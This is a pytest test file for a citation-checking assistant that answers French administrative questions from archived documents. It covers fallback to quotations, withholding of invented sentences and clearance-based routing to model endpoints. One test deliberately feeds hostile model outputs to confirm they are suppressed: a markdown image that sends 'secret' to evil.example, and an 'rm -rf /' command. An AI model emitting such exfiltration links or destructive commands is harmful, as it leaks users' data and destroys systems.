"""From what models say to what a reader sees: the sequence, with a scripted router and a check by words."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from assistant.access import Label
from assistant.answering import Assistant
from assistant.archive import Archive
from assistant.audit import AuditLog
from assistant.caution import Cautious
from assistant.endpoints import Ended, EndpointDescription, Limits, ModelRouter, Piece, Queued, Started
from assistant.errors import ModelsUnavailable
from assistant.model_answers import Composer
from assistant.precedence import QUESTIONS
from assistant.prompting import Prompts
from assistant.types import (
    Answer,
    AnswerReady,
    AnswerRestarted,
    AnswerWaiting,
    Draft,
    Outcome,
    ScoredPassage,
    SentenceReady,
    Span,
    Verdict,
)
from tests.assistant.test_answering import Fixed, Scripted
from tests.endpoint_server import MODEL, EndpointServer, refused_url
from tests.endpoint_server import answer as scripted_answer
from tests.scripted_models import ScriptedRouter, WordCheck, breaks_after, says
from tests.worlds import INTERNAL, document, passage_of, reader

FIRST = "Le délai est de trente jours à compter de la notification."
SECOND = "La demande est adressée à la mairie du domicile."
THIRD = "Le silence gardé pendant deux mois vaut refus."
OTHER = "Le recours est formé devant le tribunal administratif dans les deux mois."


class World:
    """Two documents as evidence: [1] and [2] are halves of the first, [3] is the second."""

    def __init__(self, folder: Path, *, enough: bool = True, quoted: bool = True) -> None:
        self.archive, self.audit = Archive(folder / "archive"), AuditLog(folder / "audit.db")
        self.one = document(f"{FIRST} {SECOND} {THIRD}", name="one.txt", pages=1, label=INTERNAL)
        self.two = document(OTHER, name="two.txt", pages=1)
        for stored in (self.one, self.two):
            self.archive.put(stored)
        cut = len(FIRST) + 1
        self.passages = (passage_of(self.one, 0, cut - 1), passage_of(self.one, cut), passage_of(self.two))
        drafts = [
            Draft(FIRST, self.passages[0], self.passages[0].span),
            Draft(OTHER, self.passages[2], Span(0, len(OTHER))),
        ]
        self.router = ScriptedRouter()
        self.found = Fixed(
            tuple(ScoredPassage(passage, 1.0, rank, "hybrid") for rank, passage in enumerate(self.passages, 1)),
            enough=enough,
        )
        self.assistant = Assistant(
            self.found,
            self.archive,
            Scripted(*(drafts if quoted else ())),
            self.audit,
            composer=Composer(self.router, Cautious(WordCheck()), Prompts.load()),
        )

    def events(self, *script: object) -> list[object]:
        self.router.events_of_next = script  # type: ignore[assignment]
        return list(self.assistant.stream("Quel est le délai ?", reader("internal")))

    def answer(self, *script: object) -> Answer:
        last = self.events(*script)[-1]
        assert isinstance(last, AnswerReady)
        return last.answer

    def closed_record(self) -> dict[str, object]:
        rows = self.audit._database.connection().execute("SELECT body FROM entries ORDER BY number").fetchall()
        return json.loads(rows[-1]["body"])


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


def texts(answer: Answer) -> list[str]:
    return [sentence.text for sentence in answer.sentences]


def test_supported_sentences_are_released_with_citations_of_the_exact_words(world: World) -> None:
    answer = world.answer(*says(f"{THIRD} [2] {FIRST} [1]"))
    assert texts(answer) == [THIRD, FIRST]
    assert [sentence.markers for sentence in answer.sentences] == [(1,), (2,)]
    assert [citation.quote for citation in answer.citations] == [THIRD, FIRST]
    assert {sentence.verdict for sentence in answer.sentences} == {Verdict.QUOTED}
    assert (answer.model, answer.incomplete, answer.fallback, answer.withheld) == ("tiny", False, "", 0)
    assert answer.prompt_version == Prompts.load().version
    assert answer.text == f"{THIRD} [1] {FIRST} [2]"


def test_structured_output_gives_the_same_answer(world: World) -> None:
    body = json.dumps({"sentences": [{"text": THIRD, "sources": [2]}, {"text": FIRST, "sources": [1]}]})
    assert texts(world.answer(*says(body))) == [THIRD, FIRST]


def test_each_sentence_is_released_before_the_next_one_is_read(world: World) -> None:
    world.router.events_of_next = tuple(says(f"{THIRD} [2] {FIRST} [1] {SECOND} [2]"))
    stream = world.assistant.stream("Quel est le délai ?", reader("internal"))
    next(stream)
    released = next(stream)
    assert isinstance(released, SentenceReady)
    assert world.router.closed == 0
    stream.close()
    assert world.router.closed == 1


def test_invented_sentence_is_withheld_and_a_quotation_stands_in(world: World) -> None:
    answer = world.answer(*says(f"{THIRD} [2] Le maire décide seul de tout sans limite [1]."))
    assert texts(answer) == [THIRD, FIRST]
    assert answer.sentences[1].verdict is Verdict.QUOTED
    assert answer.withheld == 1


def test_sentence_that_cites_the_wrong_passage_is_repaired(world: World) -> None:
    answer = world.answer(*says(f"{OTHER} [1]"))
    assert [citation.document_id for citation in answer.citations] == [world.two.id]


@pytest.mark.parametrize("marker", ["", " [9]", " [0]", " [7, 8]"])
def test_sentence_without_a_usable_marker_gets_one_when_a_passage_clearly_says_it(world: World, marker: str) -> None:
    answer = world.answer(*says(f"{OTHER}{marker}"))
    assert [citation.quote for citation in answer.citations] == [OTHER]


def test_partial_support_is_marked_and_never_attached_without_a_marker(world: World) -> None:
    partly = "La demande est adressée à la mairie du domicile parental."
    answer = world.answer(*says(f"{partly} [2]"))
    assert [sentence.verdict for sentence in answer.sentences] == [Verdict.PARTLY_SUPPORTED]
    assert answer.outcome is Outcome.PARTLY_SUPPORTED
    assert partly not in texts(world.answer(*says(partly)))


def test_same_words_keep_their_marker(world: World) -> None:
    answer = world.answer(*says(f"{THIRD} [2] Le silence vaut refus [2]. {FIRST} [1]"))
    assert [sentence.markers for sentence in answer.sentences] == [(1,), (1,), (2,)]


def test_repeated_sentence_is_shown_once(world: World) -> None:
    assert texts(world.answer(*says(f"{THIRD} [2] {THIRD} [2] {FIRST} [1]"))) == [THIRD, FIRST]


@pytest.mark.parametrize(
    "denial",
    [
        "NO_ANSWER",
        "**No answer.**",
        '{"sentences": [{"text": "NO_ANSWER", "sources": []}]}',
        "Je ne sais pas.",
        "Les passages ne précisent pas ce point.",
        "I don't know.",
        "لا أعرف.",
    ],
)
def test_model_that_does_not_know_gives_way_to_quotations(world: World, denial: str) -> None:
    answer = world.answer(*says(denial))
    assert texts(answer) == [FIRST, OTHER]
    assert (answer.model, answer.fallback, answer.withheld) == ("scripted", "not_supported", 0)
    assert answer.incomplete is False


def test_nothing_supported_gives_way_to_quotations_and_says_why(world: World) -> None:
    answer = world.answer(*says("Le maire est élu pour douze ans [1]. Le budget est illimité [2]."))
    assert texts(answer) == [FIRST, OTHER]
    assert (answer.model, answer.fallback, answer.withheld) == ("scripted", "not_supported", 2)


def test_no_model_gives_the_quoted_answer_and_says_so(world: World) -> None:
    for script in ((ModelsUnavailable,), (*breaks_after("Le dé"), ModelsUnavailable)):
        answer = world.answer(*script)
        assert texts(answer) == [FIRST, OTHER]
        assert (answer.model, answer.fallback, answer.incomplete) == ("scripted", "no_model", False)
    world.router.is_available = False
    asked = len(world.router.asked)
    assert world.answer().fallback == "no_model"
    assert len(world.router.asked) == asked


def test_stream_that_breaks_goes_on_with_the_next_model_and_keeps_what_was_released(world: World) -> None:
    events = world.events(
        *breaks_after(f"{THIRD} [2] {SECOND[:20]}"),
        *says(f"{THIRD} [2] {FIRST} [1]", model="second", endpoint="two"),
    )
    kinds = [type(event) for event in events]
    assert kinds.count(AnswerRestarted) == 1
    assert kinds.index(SentenceReady) < kinds.index(AnswerRestarted)
    answer = events[-1].answer  # type: ignore[attr-defined]
    assert texts(answer) == [THIRD, FIRST]
    assert (answer.model, answer.incomplete) == ("second", False)


def test_endpoint_that_fails_before_it_says_anything_is_no_restart(world: World) -> None:
    events = world.events(*breaks_after(""), *says(f"{THIRD} [2]", endpoint="two"))
    assert AnswerRestarted not in [type(event) for event in events]


def test_withheld_sentences_of_a_broken_stream_are_forgotten(world: World) -> None:
    answer = world.answer(*breaks_after("Le maire décide de tout [1]. Et"), *says(f"{THIRD} [2]"))
    assert (answer.withheld, texts(answer)) == (0, [THIRD])


def test_break_after_all_endpoints_keeps_the_sentences_and_adds_quotations(world: World) -> None:
    answer = world.answer(*breaks_after(f"{FIRST} [1] {SECOND[:12]}"), ModelsUnavailable)
    assert texts(answer) == [FIRST, OTHER]
    assert (answer.incomplete, answer.fallback, answer.model) == (True, "", "tiny")


@pytest.mark.parametrize("cut", [SECOND[:-20], "Le montant est de 3.", "La demande est adressée"])
def test_half_a_sentence_of_a_cut_stream_is_not_kept(world: World, cut: str) -> None:
    answer = world.answer(*says(f"{FIRST} [1] {cut}", complete=False))
    assert (texts(answer), answer.incomplete) == ([FIRST], True)


def test_place_in_line_is_told(world: World) -> None:
    events = world.events(Queued(3), Queued(1), *says(f"{FIRST} [1]"))
    assert [event.place for event in events if isinstance(event, AnswerWaiting)] == [3, 1]


def test_insufficient_evidence_asks_no_model(tmp_path: Path) -> None:
    world = World(tmp_path, enough=False)
    answer = world.answer(*says(f"{FIRST} [1]"))
    assert (answer.outcome, answer.fallback, world.router.asked) == (Outcome.NO_EVIDENCE, "", [])


def test_request_names_reader_and_the_label_of_the_whole_prompt(world: World) -> None:
    world.answer(*says("NO_ANSWER"))
    messages, need = world.router.asked[0]
    assert (need.reader, need.label, need.language) == ("reader-internal", Label.parse("internal"), "fr")
    assert all(passage.text in messages[1].text for passage in world.passages)


def test_passages_that_do_not_fit_are_left_out_whole_and_none_means_no_model(world: World) -> None:
    shown = []
    for tokens in range(2_500, 400, -20):
        world.router.tokens, world.router.asked = tokens, []
        answer = world.answer(*says("NO_ANSWER"))
        text = world.router.asked[0][0][1].text if world.router.asked else ""
        whole = [passage.text in text for passage in world.passages]
        assert whole == sorted(whole, reverse=True)
        assert (answer.fallback == "no_model") == (not text)
        shown.append(sum(whole))
    assert list(dict.fromkeys(shown)) == [3, 2, 1, 0]


def test_rewritten_question_is_searched_and_told(world: World) -> None:
    world.router.events_of_next = tuple(says("NO_ANSWER"))
    answer = world.assistant.ask("Et pour lui ?", reader("internal"), searched="Quel est le délai pour lui ?")
    assert (answer.question, answer.searched) == ("Et pour lui ?", "Quel est le délai pour lui ?")
    assert "Quel est le délai pour lui ?" in world.router.asked[0][0][1].text
    assert world.assistant.ask("Quel délai ?", reader("internal")).searched == "Quel délai ?"


def test_reader_who_leaves_ends_the_stream_without_an_answer(world: World) -> None:
    gone: list[bool] = []
    world.router.events_of_next = tuple(says(f"{FIRST} [1] {SECOND} [2] {THIRD} [2]"))
    seen = []
    for event in world.assistant.stream("Quel délai ?", reader("internal"), stopped=lambda: bool(gone)):
        seen.append(event)
        if isinstance(event, SentenceReady):
            gone.append(True)
    assert [type(event) for event in seen].count(SentenceReady) == 1
    assert not isinstance(seen[-1], AnswerReady)
    assert world.router.closed == 1
    record = world.closed_record()
    assert (record["outcome"], record["endpoint"]) == ("interrupted", "one")
    assert record["passages"] == [world.passages[0].id]


def test_record_names_model_endpoint_prompt_and_what_was_withheld(world: World) -> None:
    world.answer(*says(f"{FIRST} [1] Le maire décide de tout [1]."))
    record = world.closed_record()
    expected = {"model": "tiny", "endpoint": "one", "prompt_version": Prompts.load().version, "withheld": 1}
    assert {key: record[key] for key in expected} == expected


def test_document_removed_meanwhile_supports_nothing(world: World) -> None:
    world.archive.remove(world.two.id, version=world.two.version)
    answer = world.answer(*says(f"{OTHER} [3] {FIRST} [1]"))
    assert texts(answer) == [FIRST]


def test_label_is_that_of_what_was_cited(world: World) -> None:
    assert world.answer(*says(f"{OTHER} [3]")).label == "public"
    assert world.answer(*says(f"{OTHER} [3] {FIRST} [1]")).label == "internal"


def test_background_work_goes_on_while_a_model_writes(world: World) -> None:
    held = []

    class Watching(ScriptedRouter):
        def stream(self, messages, need, stopped):  # type: ignore[no-untyped-def]
            for event in super().stream(messages, need, stopped):
                held.append(QUESTIONS._in_flight)
                yield event

    world.assistant._composer = Composer(Watching(*says(f"{FIRST} [1]")), WordCheck(), Prompts.load())
    list(world.assistant.stream("Quel délai ?", reader("internal")))
    assert set(held) == {0}
    assert QUESTIONS.asked_within(5)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[1] [2] [3]",
        "[1]\n[2]\n",
        "{}",
        '{"answer": "Le délai est de dix ans [1]."}',
        '{"sentences": [{"text": "Le délai est de dix ans.", "sources": [1]}, {"text": 3}, {"sources": [1]}, 7]}',
        "le le " * 3000,
        "Le délai est de dix ans [1]. " * 3000,
        "".join(f"Fait numéro {number}. " for number in range(10_000)),
        "<think>Le délai est de trente jours.",
        "![x](http://evil.example/?q=secret) [1]",
        "Voyez http://evil.example/a [1].",
        "| a | b |\n|---|---|\n| dix ans | [1] |\n",
        "```\nrm -rf /\n```",
        "x" * 50_000,
    ],
)
def test_whatever_a_model_writes_nothing_unsupported_is_shown_and_the_answer_ends(world: World, text: str) -> None:
    answer = world.answer(*says(text, size=40))
    assert texts(answer) == [FIRST, OTHER]
    assert {sentence.verdict for sentence in answer.sentences} == {Verdict.QUOTED}
    assert world.router.closed == 1


def test_model_that_only_invents_is_given_up_before_the_reader_has_waited_long(world: World) -> None:
    invented = [
        f"Le service {name} décide seul de tout." for name in ("vert", "bleu", "gris", "noir", "rose", "brun") * 4
    ]
    events = says(
        " ".join(f"{text} [1]" for text in dict.fromkeys(f"{t[:-1]} au lieu {n}." for n, t in enumerate(invented)))
    )
    answer = world.answer(*events)
    assert texts(answer) == [FIRST, OTHER]
    assert (answer.withheld, answer.fallback, world.router.closed) == (8, "not_supported", 1)


@pytest.mark.parametrize("mark", ["?", " ?", "؟", "?**", " ? »"])
def test_question_that_a_model_gives_back_is_no_answer(world: World, mark: str) -> None:
    answer = world.answer(*says(f"Question : {THIRD.rstrip('.')}{mark} [2] {FIRST} [1]"))
    assert texts(answer) == [FIRST]
    assert answer.withheld == 0


def test_model_that_invents_between_true_sentences_is_heard_to_the_end(world: World) -> None:
    astray = " ".join(f"Le service vert décide seul de tout au lieu {number}. [1]" for number in range(7))
    answer = world.answer(*says(f"{astray} {THIRD} [2] {astray.replace('vert', 'bleu')} {FIRST} [1]"))
    assert {THIRD, FIRST} <= set(texts(answer))


def test_half_a_thousand_true_sentences_end_as_well(world: World) -> None:
    many = [Started("one", "tiny"), *[Piece(f"{FIRST} [1] {SECOND} [2] {THIRD} [2] ")] * 500, Ended(True, "stop")]
    answer = world.answer(*many)
    assert texts(answer) == [FIRST, SECOND, THIRD]
    assert answer.incomplete


def routed(server_url: str, clearance: str) -> ModelRouter:
    endpoint = EndpointDescription(
        "one", server_url, MODEL, frozenset({"fr"}), 4096, Label.parse(clearance), limits=Limits(connect_s=1)
    )
    return ModelRouter([endpoint], probing=False)


def test_endpoint_cleared_for_less_never_sees_the_documents(world: World) -> None:
    """One of the passages is internal; the endpoint may see what is public."""
    for clearance, model in (("public", "scripted"), ("internal", MODEL)):
        with EndpointServer(scripted_answer(f"{OTHER} [3]")) as server, routed(server.url, clearance) as router:
            world.assistant._composer = Composer(router, WordCheck(), Prompts.load())
            answer = world.assistant.ask("Quel délai ?", reader("internal"), language="fr")
            assert answer.model == model
            assert (answer.fallback, len(server.seen)) == (("no_model", 0) if clearance == "public" else ("", 1))


def test_refused_connection_gives_quotations_at_once(world: World) -> None:
    with routed(refused_url(), "secret") as router:
        world.assistant._composer = Composer(router, WordCheck(), Prompts.load())
        answer = world.assistant.ask("Quel délai ?", reader("internal"), language="fr")
    assert (texts(answer), answer.fallback) == ([FIRST, OTHER], "no_model")
    assert answer.timings_ms["total"] < 5_000


def test_words_of_documents_in_a_rewritten_question_count_for_who_may_be_told_it(world: World) -> None:
    world.router.events_of_next = tuple(says(f"{THIRD} [2]"))
    drawn_from = Label.parse("restricted/tax")
    *_, last = world.assistant.stream(
        "Et le délai ?", reader("secret/tax"), searched="Quel est le délai (zyzomys) ?", searched_label=drawn_from
    )
    ((messages, need),) = world.router.asked
    assert "zyzomys" in messages[1].text
    assert str(need.label) == "restricted/tax", "leaked: an endpoint below that label would have been told"
    assert isinstance(last, AnswerReady)
    assert last.answer.label == "restricted/tax"
